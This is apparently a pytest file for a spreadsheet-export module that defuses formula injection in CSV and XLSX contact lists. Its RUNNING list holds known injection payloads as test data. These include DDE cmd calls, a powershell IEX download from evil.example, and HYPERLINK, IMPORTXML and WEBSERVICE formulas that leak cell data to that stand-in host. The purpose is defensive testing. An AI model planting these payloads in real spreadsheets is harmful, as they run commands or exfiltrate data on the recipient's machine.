"""Cells that spreadsheet programs were ever made to run by, and lists of real shops: inert, whole, readable again."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from amanat.core import spreadsheets

#: Cells from advisories and write-ups on formula injection, and their disguises.
RUNNING = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget evil.example)'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")", "=IMAGE(\"http://evil.example/p.gif\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x0b=1+1", "\x1f=1+1", "\u3000=1+1", "\u2003=1+1",
    "\"=1+1", "\"\"=1+1", "' =1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1", "%0A=1+1", "|calc", "%cmd%", "=", "+", "-", "@",
    "-", "--", "-1", "+1", "-0", "-a", "- one", "@asha", "+91 98220 41736", "=91", "=-1", "=\u0661", "\t", "\r", "\n", "\r\n=1",
]  # fmt: skip
#: What stands in lists and must stay as it is, to the letter.
HARMLESS = [
    "Sunita Deshmukh", "सुनीता देशमुख", "0253-2571234", "98220 41736", "2026-11-22", "10:30", "₹ 1,500", "1,500.50", "a=b", "a-b", "a@b.in",
    "C/O Ganesh", "12/A, MG Road", "#12", "(office)", "*", "&", "~", "!", "?", "x'y", "it's", "'quoted'", "'", "''", "O'Neil", "\"quoted\"",
    "a\nb", "a\r\nb", "a,b;c\td", "0012", "1E5", "TRUE", "null", "😀", "🇮🇳", "शिव-शक्ती", "ا ب", "\u200cx", " padded ", "a  b", "",
]  # fmt: skip


def from_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", RUNNING)
def test_no_cell_runs_and_every_cell_comes_back(cell: str) -> None:
    written = spreadsheets.inert(cell)
    assert written.startswith("'")
    assert spreadsheets.restored(written) == cell
    assert spreadsheets.inert(written) == f"'{written}"  # exported twice, imported twice


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_are_written_as_they_are(cell: str) -> None:
    assert spreadsheets.inert(cell) == cell
    assert spreadsheets.restored(cell) == cell


@pytest.mark.parametrize(
    ("e164", "written"),
    [
        ("+919822041736", "(+91) 98220 41736"), ("+912223456789", "(+91) 22234 56789"), ("+14155552671", "(+1) 41555 52671"),
        ("+9779841234567", "(+977) 98412 34567"), ("+97143310000", "(+971) 43310 000"), ("+6581234567", "(+65) 81234 567"),
        ("+79123456789", "(+7) 91234 56789"),
    ],
)  # fmt: skip
def test_numbers_with_a_plus_stay_whole(e164: str, written: str) -> None:
    assert spreadsheets.inert(e164) == written
    assert spreadsheets.restored(written) == e164
    assert not written.lstrip().startswith(("+", "=", "-", "@"))


@given(rows=st.lists(st.lists(st.sampled_from(RUNNING + HARMLESS), min_size=3, max_size=3), max_size=12))
def test_a_whole_table_reads_back_as_it_was(rows: list[list[str]]) -> None:
    read = from_csv(b"".join(spreadsheets.write_csv(["=name", "phone", "note"], rows)))
    assert [spreadsheets.restored(cell) for cell in read[0]] == ["=name", "phone", "note", spreadsheets.MARKER]
    assert [[spreadsheets.restored(cell) for cell in row] for row in read[1:]] == [[*row, ""] for row in rows]


@pytest.mark.parametrize("count", [0, 1, 499, 500, 501, 1000, 1001])
def test_the_edges_of_a_piece_lose_no_row(count: int) -> None:
    pieces = list(spreadsheets.write_csv(["n"], ([str(number)] for number in range(count))))
    assert [row[0] for row in from_csv(b"".join(pieces))[1:]] == [str(number) for number in range(count)]
    assert len(pieces) == count // 500 + 1


def from_xlsx(content: bytes) -> list[list[str]]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    return [[str(cell) for cell in row] for row in sheet.to_python(skip_empty_area=False)]


def test_a_workbook_holds_every_such_cell_as_text(tmp_path: object) -> None:
    cells = [cell for cell in RUNNING + HARMLESS if cell.strip()]
    target = io.BytesIO()
    assert spreadsheets.write_xlsx(["cell"], [[cell] for cell in cells], target) == len(cells)
    with zipfile.ZipFile(io.BytesIO(target.getvalue())) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and all("<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet for sheet in sheets)
    read = [row[0] for row in from_xlsx(target.getvalue())[1:]]
    assert [text.replace("\r\n", "\n").replace("\r", "\n") for text in read] == [
        cell.replace("\r\n", "\n").replace("\r", "\n") for cell in cells
    ]


@pytest.mark.parametrize("bad", ["\x00", "a\x00b", "\ud800", "a\udfffb", "\ufffe", "\uffff"])
def test_what_no_file_can_hold_is_left_out_or_replaced(bad: str) -> None:
    read = from_csv(b"".join(spreadsheets.write_csv(["a"], [[bad]])))
    assert "\x00" not in read[1][0]
    target = io.BytesIO()
    spreadsheets.write_xlsx(["a"], [["x" + bad]], target)
    assert from_xlsx(target.getvalue())[1][0].startswith("x")


@pytest.mark.parametrize(("length", "fits"), [(32_766, True), (32_767, True), (32_768, False)])
def test_the_longest_cell_of_a_workbook_is_exact(length: int, fits: bool) -> None:
    target = io.BytesIO()
    if fits:
        spreadsheets.write_xlsx(["a"], [["x" * length]], target)
        assert len(from_xlsx(target.getvalue())[1][0]) == length
    else:
        with pytest.raises(spreadsheets.SpreadsheetRefused, match="Row 1"):
            spreadsheets.write_xlsx(["a"], [["x" * length]], target)
